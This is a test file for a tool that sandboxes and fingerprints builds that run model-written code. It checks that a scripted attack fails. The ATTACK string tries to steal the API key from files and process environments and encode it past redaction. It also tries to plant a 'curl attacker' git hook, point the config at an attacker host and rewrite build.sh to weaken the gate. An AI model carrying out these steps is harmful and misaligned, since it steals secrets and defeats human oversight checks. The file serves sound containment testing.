"""build.sh runs the model's code: in the sandbox that code cannot steal the key, weaken the gate,
persist, write outside the project or use the network; without the sandbox, every attempt to
weaken the gate is caught by the fingerprint (exit 10) and the run never passes.

Each attack is an answer whose code runs during the build, through the real loop, the real SDK
and the fake service. In CI these tests fail, never skip, when bubblewrap is missing.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from code_commit.builds.integrity import Fingerprint, changed_paths, protected_paths
from code_commit.builds.runner import run_build
from code_commit.config.redaction import Redactor
from code_commit.sandbox.bubblewrap import BUBBLEWRAP, choose, policy, wrap

from fakeapi import FakeAPI
from support import TEST_KEY, Project, git
from support.sandbox import outside_tmp, require_bwrap

BWRAP = shutil.which("bwrap")
require_bwrap()

NOBODY = 65534
FIX = "^^^fixed.txt\nfixed\n^^^end\n"
# The interpreter itself, not the venv's link to it: a venv under /tmp (a CI checkout there) is
# hidden by the sandbox's private /tmp.
PYTHON = os.path.realpath(sys.executable)
BUILD = f"if [ -f attack.py ]; then {PYTHON} -B attack.py $PPID; fi\ntest -f fixed.txt\n"
ORIGINAL_CONFIG = "# the user's settings\n"

# Runs during the build. Every attempt prints what happened; found keys are printed plain,
# base64-encoded and reversed, as an attacker would, to get past redaction.
ATTACK = r"""
import base64, os, pathlib, socket, subprocess, sys

OUTSIDE, HOST_TMP, PORT, PARENT = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[-1]

def leak(where, text):
    for line in text.replace("\0", "\n").splitlines():
        value = line.split("=", 1)[-1].strip()
        if len(value) >= 8:
            print(where, "plain", value)
            print(where, "b64", base64.b64encode(value.encode()).decode())
            print(where, "rev", value[::-1])

def attempt(name, action):
    try:
        action()
    except Exception as exc:
        print(name, "FAILED", type(exc).__name__)
    else:
        print(name, "DONE")

def read(path):
    return lambda: leak(path, pathlib.Path(path).read_text(errors="replace"))

def environs():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and entry != str(os.getpid()):
            try:
                text = pathlib.Path(f"/proc/{entry}/environ").read_text(errors="replace")
            except OSError:
                continue
            leak(f"/proc/{entry}/environ", "\n".join(l for l in text.split("\0") if "KEY" in l))

def append(path, text):
    def action():
        with open(path, "a") as fh:
            fh.write(text)
    return action

def write(path, text):
    return lambda: pathlib.Path(path).write_text(text)

attempt("KEYFILE", read("agent-config/anthropic-api-key"))
attempt("PARENT", read(f"/proc/{PARENT}/environ"))  # build.sh's parent: code-commit, unsandboxed
attempt("ENVIRONS", environs)
attempt("UMOUNT", lambda: subprocess.run(["umount", "agent-config"], check=True, capture_output=True))
attempt("KEYFILE-AFTER-UMOUNT", read("agent-config/anthropic-api-key"))
attempt("BUILD.SH", write("build.sh", "#!/bin/sh\nexit 0\n"))
attempt("GITIGNORE", append(".gitignore", "!/agent-config\n"))
attempt("HOOK", write(".git/hooks/pre-commit", "#!/bin/sh\ncurl attacker\n"))
attempt("GITCONFIG", append(".git/config", "[core]\n\thooksPath = /tmp\n"))
attempt("CONFIG", write("agent-config/config.toml", 'base_url = "http://attacker.invalid"\n'))
attempt("OUTSIDE", write(os.path.join(OUTSIDE, "escaped.txt"), "out\n"))
attempt("HOST-TMP", write(HOST_TMP, "out\n"))
attempt("NET", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5).close())
print("ATTACK OVER")
"""


def attack_answer(outside: Path, host_tmp: Path, port: int) -> str:
    args = f"{outside} {host_tmp} {port}"
    return f"^^^attack.py\nimport sys\nsys.argv[1:4] = {args.split()!r}\n{ATTACK}^^^end\n"


@pytest.fixture
def target(project: Project) -> Project:
    """The `project`, with a build.sh that runs attack.py when the answer wrote one, the key in its
    file as well as in the environment, and a config.toml the attack tries to rewrite."""
    project.build_script(BUILD)
    project.commit_all()
    project.write("agent-config/anthropic-api-key", TEST_KEY + "\n")
    project.write("agent-config/config.toml", ORIGINAL_CONFIG)
    return project


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        server.setblocking(False)
        yield server


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder the test owns outside the project and outside /tmp (which the sandbox replaces)."""
    folder = outside_tmp("code-commit-outside-")
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
def host_tmp() -> Iterator[Path]:
    path = Path("/tmp") / f"code-commit-escape-{uuid.uuid4().hex}"
    yield path
    path.unlink(missing_ok=True)


def key_forms() -> list[str]:
    return [TEST_KEY, base64.b64encode(TEST_KEY.encode()).decode(), TEST_KEY[::-1], TEST_KEY[4:-4]]


def everything_written(project: Project) -> str:
    return "".join(
        p.read_text(errors="replace") for run in project.run_dirs() for p in sorted(run.rglob("*")) if p.is_file()
    )


def protected_state(project: Project) -> dict[str, str | None]:
    names = ["build.sh", ".gitignore", ".git/config", ".git/hooks/pre-commit", "agent-config/config.toml"]
    return {n: project.read(n) if (project.root / n).exists() else None for n in names}


def accepted(server: socket.socket) -> bool:
    try:
        connection, _ = server.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


def test_in_the_sandbox_no_attack_of_the_models_code_succeeds(
    target: Project, api: FakeAPI, cli, listener: socket.socket, outside: Path, host_tmp: Path
) -> None:
    before = protected_state(target)
    api.reply(attack_answer(outside, host_tmp, listener.getsockname()[1]))
    api.reply(FIX)

    result = cli("--json")

    assert result.exit_code == 0, result.stderr
    assert len(api.requests) == 2, "the build's output went to the model in a repair request"
    (run,) = target.run_dirs()
    build = (run / "01-build.txt").read_text()
    assert "ATTACK OVER" in build
    for name in ("KEYFILE", "UMOUNT", "KEYFILE-AFTER-UMOUNT", "BUILD.SH", "GITIGNORE", "HOOK", "GITCONFIG"):
        assert f"{name} FAILED" in build, name
    for name in ("CONFIG", "OUTSIDE", "NET"):
        assert f"{name} FAILED" in build, name
    assert "HOST-TMP DONE" in build  # into the sandbox's private /tmp, gone with it
    assert " plain " not in build, "the build found something that looks like a key"
    # No form of the key anywhere: logs, console, JSON record, requests (the repair prompt carries the output).
    requests = "".join(json.dumps(r.json) for r in api.requests)
    seen = everything_written(target) + result.stdout + result.stderr + requests
    for form in key_forms():
        assert form not in seen
    assert protected_state(target) == before
    assert list(outside.iterdir()) == [] and not host_tmp.exists()
    assert not accepted(listener)
    record = json.loads(result.stdout)
    assert record["outcome"] == "passed" and record["tampered"] == []
    assert record["sandbox"].startswith("bubblewrap") and record["last_build"]["sandbox"] == BUBBLEWRAP
    assert "sandbox: builds run under bubblewrap" in (run / "run.log").read_text()


def test_with_the_network_on_a_sandboxed_build_reaches_a_local_listener(
    target: Project, api: FakeAPI, cli, listener: socket.socket, outside: Path, host_tmp: Path
) -> None:
    api.reply(attack_answer(outside, host_tmp, listener.getsockname()[1]))
    api.reply(FIX)

    result = cli("--sandbox-network", "true")

    assert result.exit_code == 0, result.stderr
    assert result.stderr.count("the build, the model's code, can reach any host") == 1, "warned once a run"
    (run,) = target.run_dirs()
    build = (run / "01-build.txt").read_text()
    assert "NET DONE" in build and accepted(listener)
    assert "BUILD.SH FAILED" in build and "KEYFILE FAILED" in build  # the rest of the sandbox holds


def test_without_the_sandbox_every_tamper_attempt_is_caught_and_the_run_never_passes(
    target: Project, api: FakeAPI, cli, listener: socket.socket, outside: Path, host_tmp: Path
) -> None:
    api.reply(attack_answer(outside, host_tmp, listener.getsockname()[1]))
    api.reply(FIX)  # never asked for: the run stops at the tampered build

    result = cli("--json", "--sandbox", "off")

    assert result.exit_code == 10, result.stderr
    assert len(api.requests) == 1, "nothing more went to the model"
    (run,) = target.run_dirs()
    assert "BUILD.SH DONE" in (run / "01-build.txt").read_text()
    changed = [
        "agent-config/config.toml (changed)",
        ".git/config (changed)",
        ".git/hooks/pre-commit (created)",
        ".gitignore (changed)",
        "build.sh (changed)",
    ]
    record = json.loads(result.stdout)
    assert record["outcome"] == "tampered" and record["exit_code"] == 10
    assert sorted(record["tampered"]) == sorted(changed)
    log = (run / "run.log").read_text()
    for path in changed:
        assert path in result.stderr and path in log and path in record["error"]
    assert "passes" not in result.stderr
    assert record["sandbox"].startswith('none (sandbox = "off")')


def test_a_new_ignore_file_cannot_be_prevented_by_a_bind_so_the_fingerprint_stops_the_run(
    project: Project, api: FakeAPI, cli
) -> None:
    project.write("sub/kept.txt", "tracked\n")
    project.build_script("echo '!/agent-config' > sub/.gitignore\ntest -f fixed.txt\n")
    project.commit_all()
    api.reply(FIX)

    result = cli("--json")

    assert result.exit_code == 10, result.stderr
    record = json.loads(result.stdout)
    assert record["tampered"] == ["sub/.gitignore (created)"] and record["last_build"] is None
    assert record["sandbox"].startswith("bubblewrap")


def test_a_new_ignore_file_that_would_hide_the_users_untracked_work_stops_the_run(
    project: Project, api: FakeAPI, cli
) -> None:
    project.build_script("printf '*\\n' > notes/.gitignore\ntest -f fixed.txt\n")
    project.commit_all()
    project.write("notes/todo.txt", "the user's own, never committed\n")  # untracked, not ignored
    api.reply(FIX)

    result = cli("--json")

    assert result.exit_code == 10, result.stderr
    assert json.loads(result.stdout)["tampered"] == ["notes/.gitignore (created)"]


@pytest.mark.parametrize(
    ("script", "created"),
    [
        # A plain folder: pytest collects a conftest.py there, which git (and the test guard) never sees.
        (
            "mkdir -p tests/helpers && printf '*\\n' > tests/helpers/.gitignore\n"
            "printf 'import pytest\\n' > tests/helpers/conftest.py\n",
            "tests/helpers/.gitignore (created)",
        ),
        # An editor's folder: its tasks run when the folder is opened, and git status would not show them.
        (
            "mkdir -p .vscode && printf '*\\n' > .vscode/.gitignore\nprintf '{}\\n' > .vscode/tasks.json\n",
            ".vscode/.gitignore (created)",
        ),
        # A tool's cache, but an ignore file that hides some files and not others.
        (
            "mkdir -p .ruff_cache && printf '*\\n!keep.py\\n' > .ruff_cache/.gitignore\n",
            ".ruff_cache/.gitignore (created)",
        ),
    ],
    ids=["plain-folder", "editor-folder", "other-patterns"],
)
def test_a_new_ignore_file_that_is_no_tools_cache_stops_the_run(
    project: Project, api: FakeAPI, cli, script: str, created: str
) -> None:
    project.build_script(script + "test -f fixed.txt\n")
    project.commit_all()
    api.reply(FIX)

    result = cli("--json")

    assert result.exit_code == 10, result.stderr
    assert json.loads(result.stdout)["tampered"] == [created]


def test_a_test_runners_cache_with_its_own_ignore_file_is_no_tampering(project: Project, api: FakeAPI, cli) -> None:
    """pytest makes .pytest_cache/ with a .gitignore holding `*` on its first run (ruff and mypy do the
    same): a folder of the build's own, whose ignore file hides only what the build made there."""
    project.write("test_app.py", "def test_fixed():\n    assert open('fixed.txt').read() == 'fixed\\n'\n")
    project.build_script(f"{sys.executable} -m pytest -q -p cacheprovider test_app.py\n")
    project.commit_all()
    if Path(sys.prefix).is_relative_to("/tmp"):  # a checkout under /tmp: its venv is shown as a user would
        project.write("agent-config/config.toml", f'sandbox_readable = ["{sys.prefix}"]\n')
    api.reply(FIX)

    result = cli("--json")

    assert result.exit_code == 0, result.stderr
    record = json.loads(result.stdout)
    assert record["outcome"] == "passed" and record["sandbox"].startswith("bubblewrap")
    assert (project.root / ".pytest_cache" / ".gitignore").is_file()
    assert ".pytest_cache/.gitignore" in result.stderr and "a folder of its own" in result.stderr
    (log,) = (project.root / "agent-config" / "logs").glob("*/run.log")
    assert ".pytest_cache/.gitignore" in log.read_text()


def test_require_without_bubblewrap_exits_2_before_any_request(
    project: Project, api: FakeAPI, cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(path_without_bwrap(tmp_path)))
    api.reply(FIX)

    result = cli("--sandbox", "require")

    assert result.exit_code == 2
    assert api.requests == []
    assert 'sandbox = "require", but no working sandbox: bubblewrap (bwrap) is not installed' in result.stderr
    assert "apt-get install bubblewrap" in result.stderr
    assert project.run_dirs() == []


def test_auto_without_bubblewrap_says_so_once_with_the_fix_and_builds_unsandboxed(
    project: Project, api: FakeAPI, cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(path_without_bwrap(tmp_path)))
    api.reply("^^^wrong.txt\nno\n^^^end\n")
    api.reply(FIX)

    result = cli("--json")

    assert result.exit_code == 0, result.stderr
    assert result.stderr.count("builds run without a sandbox") == 1
    assert "not installed" in result.stderr and "apt-get install bubblewrap" in result.stderr
    (run,) = project.run_dirs()
    assert "sandbox: builds run under none: bubblewrap (bwrap) is not installed" in (run / "run.log").read_text()
    record = json.loads(result.stdout)
    assert record["sandbox"].startswith("none: bubblewrap (bwrap) is not installed")
    assert record["last_build"]["sandbox"] == "none"


def test_a_bubblewrap_that_cannot_create_namespaces_is_reported_with_its_own_words(
    project: Project, api: FakeAPI, cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bin_dir = path_without_bwrap(tmp_path)
    fake = bin_dir / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", str(bin_dir))

    result = cli("--sandbox", "require")

    assert result.exit_code == 2 and api.requests == []
    assert "bwrap said: bwrap: setting up uid map: Permission denied" in result.stderr
    assert "unprivileged user namespaces" in result.stderr


def path_without_bwrap(tmp_path: Path) -> Path:
    """A PATH with git (the run needs it) and nothing else."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    git_path = shutil.which("git")
    assert git_path is not None
    (bin_dir / "git").symlink_to(git_path)
    return bin_dir


def test_a_real_python_projects_test_suite_passes_in_the_sandbox(
    tmp_path: Path, api: FakeAPI, cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    sample = Path(__file__).resolve().parents[1] / "e2e_project"
    root = tmp_path / "inventory-project"
    shutil.copytree(sample, root)
    (root / "gitignore.template").rename(root / ".gitignore")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "broken on purpose")
    monkeypatch.chdir(root)
    (root / "agent-config" / "codeRollup.txt").write_text("(not needed by the scripted answers)\n")
    stock = (root / "inventory" / "stock.py").read_text()
    api.reply("^^^inventory/stock.py\n" + stock.replace("have + count", "have - count") + "^^^end\n")

    result = cli("--json", "--sandbox", "require")

    assert result.exit_code == 0, result.stderr
    record = json.loads(result.stdout)
    assert record["last_build"]["sandbox"] == BUBBLEWRAP
    assert "OK" in Path(record["last_build"]["log"]).read_text()


# --- the process boundary: run_build with a policy directly ---


def sandbox_policy(root: Path):
    protected = protected_paths(root)
    return policy(choose("require"), root, [*protected.files, *protected.git_dirs], [root / "agent-config"], False, [])


def marked_processes(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


def all_gone(marker: str) -> bool:
    """SIGKILL is delivered asynchronously: give the kernel a (generous) moment to finish them."""
    deadline = time.monotonic() + 10
    while marked_processes(marker):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True


@pytest.mark.parametrize("ending", ["timeout", "exit"])
def test_nothing_the_sandboxed_build_started_outlives_it_setsid_included(tmp_path: Path, ending: str) -> None:
    marker = f"600.{uuid.uuid4().int % 10**8}"
    (tmp_path / ".git").mkdir()
    tail = "sleep 600\n" if ending == "timeout" else "exit 0\n"
    script = f"setsid sleep {marker} &\nsleep {marker} >/dev/null 2>&1 &\necho started\n{tail}"
    (tmp_path / "build.sh").write_text("#!/bin/sh\n" + script)
    (tmp_path / "build.sh").chmod(0o755)
    (tmp_path / "agent-config").mkdir()
    policy_ = sandbox_policy(tmp_path)
    assert policy_ is not None
    result = run_build(tmp_path, tmp_path / "out.txt", Redactor(), 1.0 if ending == "timeout" else 60, sandbox=policy_)
    assert "started" in (tmp_path / "out.txt").read_text()
    assert result.timed_out == (ending == "timeout")
    assert all_gone(marker), "a process the build started outlived it"


def test_a_missing_interpreter_inside_the_sandbox_is_reported_as_a_shell_would(tmp_path: Path) -> None:
    (tmp_path / "build.sh").write_text("#!/nonexistent/python9\nprint(1)\n")
    (tmp_path / "build.sh").chmod(0o755)
    result = run_build(tmp_path, tmp_path / "out.txt", Redactor(), 60, sandbox=sandbox_policy(tmp_path))
    assert result.exit_code == 127 and not result.passed
    assert result.start_error is not None
    assert "its interpreter '/nonexistent/python9' (its #! line) was not found" in result.start_error
    assert "could not be started" in (tmp_path / "out.txt").read_text()


def test_a_build_sh_without_a_shebang_runs_with_sh_in_the_sandbox(tmp_path: Path) -> None:
    (tmp_path / "build.sh").write_text("echo from-sh\nexit 3\n")
    (tmp_path / "build.sh").chmod(0o755)
    result = run_build(tmp_path, tmp_path / "out.txt", Redactor(), 60, sandbox=sandbox_policy(tmp_path))
    assert result.exit_code == 3 and result.start_error is None
    assert "from-sh" in (tmp_path / "out.txt").read_text()


def test_a_symlinked_protected_file_has_its_target_bound_read_only(tmp_path: Path) -> None:
    """bwrap follows a symlink at a mount point: the target is what gets bound, never the link's
    place in the writable root; the link itself is the fingerprint's to watch."""
    (tmp_path / "scripts").mkdir()
    real = tmp_path / "scripts" / "real-build.sh"
    script = "#!/bin/sh\necho exit 0 > scripts/real-build.sh || echo WRITE-FAILED\n"
    real.write_text(script)
    real.chmod(0o755)
    (tmp_path / "build.sh").symlink_to("scripts/real-build.sh")
    (tmp_path / ".gitignore").symlink_to("/nonexistent/dangling")
    policy_ = sandbox_policy(tmp_path)
    assert policy_ is not None
    assert real in policy_.read_only and tmp_path / "build.sh" not in policy_.read_only
    assert all(p.exists() for p in policy_.read_only)
    args = wrap(policy_, ["./build.sh"])
    assert args.index(str(tmp_path)) < args.index(str(real))  # the read-only bind comes after the writable one
    result = run_build(tmp_path, tmp_path / "out.txt", Redactor(), 60, sandbox=policy_)
    assert result.passed and "WRITE-FAILED" in (tmp_path / "out.txt").read_text()
    assert real.read_text() == script


def test_the_fingerprint_follows_a_symlinked_build_sh_and_sees_a_new_ignore_file(tmp_path: Path) -> None:
    git(tmp_path, "init", "-q")
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "real-build.sh").write_text("#!/bin/sh\n")
    (tmp_path / "build.sh").symlink_to("scripts/real-build.sh")
    (tmp_path / "agent-config" / "logs" / "run").mkdir(parents=True)
    before = Fingerprint.take(protected_paths(tmp_path), skip=tmp_path / "agent-config" / "logs" / "run")
    (tmp_path / "scripts" / "real-build.sh").write_text("#!/bin/sh\nexit 0\n")
    (tmp_path / "deep" / "er").mkdir(parents=True)
    (tmp_path / "deep" / "er" / ".gitignore").write_text("*\n")
    (tmp_path / "agent-config" / "logs" / "run" / "01-build.txt").write_text("the run's own folder\n")
    after = Fingerprint.take(protected_paths(tmp_path), skip=tmp_path / "agent-config" / "logs" / "run")
    assert changed_paths(before, after) == ["build.sh (changed)", "deep/er/.gitignore (created)"]


def test_without_the_sandbox_a_same_user_build_cannot_read_the_runs_environment(api: FakeAPI) -> None:
    """prctl(PR_SET_DUMPABLE, 0): /proc/<code-commit>/environ is closed to the build, a process of the
    same user. Root reads it anyway (CAP_SYS_PTRACE), so as root the CLI runs as `nobody` here; the
    process boundary is what is tested. The key file stays readable in off mode (SECURITY.md says so)."""
    base = outside_tmp("code-commit-dumpable-")
    try:
        root = base / "project"
        project = Project(root)
        project.write(".gitignore", "/agent-config\n")
        project.write("agent-config/query.txt", "Make the build pass.\n")
        project.write("agent-config/codeRollup.txt", "==> app.txt <==\nhello\n")
        project.write("agent-config/anthropic-api-key", TEST_KEY + "\n")
        project.build_script(
            "if tr '\\0' '\\n' < /proc/$PPID/environ | grep -q ^ANTHROPIC_API_KEY=; then echo ENVIRON-READ; "
            "else echo ENVIRON-CLOSED; fi\n"
            "test -r agent-config/anthropic-api-key && echo KEYFILE-READABLE\n"
            "test -f fixed.txt\n"
        )
        git(root, "init", "-q")
        project.commit_all()
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(base),
            "XDG_CONFIG_HOME": str(base / "xdg"),
            "GIT_CONFIG_GLOBAL": os.devnull,
            "GIT_CONFIG_NOSYSTEM": "1",
            "ANTHROPIC_BASE_URL": api.url,
            "ANTHROPIC_API_KEY": TEST_KEY,
        }
        as_user: list[str] = []
        if os.geteuid() == 0:
            shutil.chown(base, NOBODY, NOBODY)
            for path in base.rglob("*"):
                os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
            as_user = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
        api.reply(FIX)
        done = subprocess.run(
            [*as_user, sys.executable, "-m", "code_commit", "--sandbox", "off"],
            cwd=root,
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr
        (run,) = project.run_dirs()
        output = (run / "01-build.txt").read_text()
        assert "ENVIRON-CLOSED" in output and "ENVIRON-READ" not in output
        assert "KEYFILE-READABLE" in output  # what off mode leaves within reach
    finally:
        shutil.rmtree(base)


# --- settings, `config`, `apply --build`, and when the probe runs ---


def fake_bwrap(tmp_path: Path) -> tuple[Path, Path]:
    """A PATH whose bwrap records each start in a file and fails as one without user namespaces would."""
    bin_dir = path_without_bwrap(tmp_path)
    started = tmp_path / "bwrap-started"
    fake = bin_dir / "bwrap"
    fake.write_text(
        f"#!/bin/sh\necho started >> {started}\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n"
    )
    fake.chmod(0o755)
    return bin_dir, started


def test_the_probe_runs_only_when_a_build_is_about_to_run(
    project: Project, cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bin_dir, started = fake_bwrap(tmp_path)
    monkeypatch.setenv("PATH", str(bin_dir))
    answer = tmp_path / "answer.txt"
    answer.write_text(FIX)

    assert cli("--help").exit_code == 0
    config = cli("config")
    assert f"# builds would run under: bubblewrap ({bin_dir / 'bwrap'}), if it can create" in config.stdout
    assert json.loads(cli("--sandbox", "off", "config", "--json").stdout)["sandbox"].startswith("none (sandbox")
    assert cli("apply", "--check", str(answer)).exit_code == 0
    assert cli("apply", str(answer)).exit_code == 0
    assert not started.exists(), "bwrap was started without a build to run"

    (project.root / "fixed.txt").unlink()
    result = cli("apply", "--build", str(answer))
    assert result.exit_code == 0, result.stdout + result.stderr
    assert started.read_text() == "started\n"  # once
    assert "builds run without a sandbox" in result.stderr
    assert "bwrap said: bwrap: No permissions to creating new namespace" in result.stderr


def test_apply_build_is_sandboxed_and_fingerprinted(project: Project, cli, tmp_path: Path) -> None:
    project.build_script("echo 'exit 0' > build.sh || echo WRITE-FAILED\ntest -f fixed.txt\n")
    project.commit_all()
    original = project.read("build.sh")
    answer = tmp_path / "answer.txt"
    answer.write_text(FIX)

    sandboxed = cli("apply", "--build", "--json", str(answer))
    assert sandboxed.exit_code == 0, sandboxed.stderr
    report = json.loads(sandboxed.stdout)
    assert report["last_build"]["sandbox"] == BUBBLEWRAP and report["last_build"]["passed"]
    assert project.read("build.sh") == original

    (project.root / "fixed.txt").unlink()
    unsandboxed = cli("--sandbox", "off", "apply", "--build", "--json", str(answer))
    assert unsandboxed.exit_code == 10
    report = json.loads(unsandboxed.stdout)
    assert report["ok"] is False and "build.sh (changed)" in report["error"]
    assert "build.sh (changed)" in unsandboxed.stderr
    assert "build.sh (changed)" in (project.run_dirs()[-1] / "run.log").read_text()


@pytest.mark.parametrize(
    ("args", "env", "message"),
    [
        (["--sandbox", "maybe"], {}, "must be one of auto, require, off, not 'maybe'"),
        (["--sandbox-writable", "cache"], {}, "'cache' is not an absolute path"),
        (["--sandbox-writable", "{root}/build"], {}, "is inside the project"),
        (["--sandbox-writable", "{root}/agent-config"], {}, "is inside the project"),
        ([], {"CODE_COMMIT_SANDBOX_WRITABLE": "~/.cache/pip, {parent}"}, "contains the project"),
    ],
)
def test_bad_sandbox_settings_are_setup_errors(
    project: Project, cli, args: list[str], env: dict[str, str], message: str
) -> None:
    fill = {"root": str(project.root), "parent": str(project.root.parent)}
    result = cli(*[a.format(**fill) for a in args], "config", env={k: v.format(**fill) for k, v in env.items()})
    assert result.exit_code == 2
    assert message in result.stderr


def test_extra_writable_paths_are_writable_in_the_sandbox(tmp_path: Path, outside: Path) -> None:
    (tmp_path / "build.sh").write_text(f"#!/bin/sh\necho cached > {outside}/cache.txt\n")
    (tmp_path / "build.sh").chmod(0o755)
    protected = protected_paths(tmp_path)
    sandbox = choose("require")
    writable = [str(outside)]
    build_policy = policy(sandbox, tmp_path, [*protected.files], [tmp_path / "agent-config"], False, writable)
    assert build_policy is not None
    assert run_build(tmp_path, tmp_path / "out.txt", Redactor(), 60, sandbox=build_policy).passed
    assert (outside / "cache.txt").read_text() == "cached\n"


def test_the_time_limit_kills_a_sandboxed_build_and_everything_it_started(project: Project, api: FakeAPI, cli) -> None:
    marker = f"600.{uuid.uuid4().int % 10**8}"
    # The baseline fails at once; the build after the answer is the one the limit kills.
    project.build_script(
        f"test -f fixed.txt || exit 1\nsetsid sleep {marker} &\nsleep {marker} &\necho started\nsleep {marker}\n"
    )
    project.commit_all()
    api.reply(FIX)
    result = cli("--build-timeout", "3", "--json", env={"CODE_COMMIT_MAX_REPAIRS": "0"})
    assert result.exit_code == 1, result.stderr
    record = json.loads(result.stdout)
    assert record["last_build"]["timed_out"] and record["last_build"]["sandbox"] == BUBBLEWRAP
    assert "started" in Path(record["last_build"]["log"]).read_text()
    assert all_gone(marker), "a process the sandboxed build started outlived it"


def test_a_bwrap_that_made_a_sandbox_is_probed_once_a_process_and_again_once_replaced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = shutil.which("bwrap")
    assert real is not None
    bin_dir = path_without_bwrap(tmp_path)
    started = tmp_path / "bwrap-started"
    wrapper = bin_dir / "bwrap"
    wrapper.write_text(f'#!/bin/sh\necho started >> {started}\nexec {real} "$@"\n')
    wrapper.chmod(0o755)
    env = {**os.environ, "PATH": f"{bin_dir}:/usr/bin:/bin"}  # the wrapper first; `true` for the probe

    assert choose("require", env).bwrap == str(wrapper)
    assert choose("require", env).bwrap == str(wrapper)
    assert started.read_text() == "started\n"

    wrapper.write_text(f"#!/bin/sh\necho started >> {started}\necho broken >&2\nexit 1\n")  # replaced
    assert choose("auto", env).kind == "none"
    assert choose("auto", env).kind == "none", "a failure is probed again"
    assert started.read_text().count("started") == 3
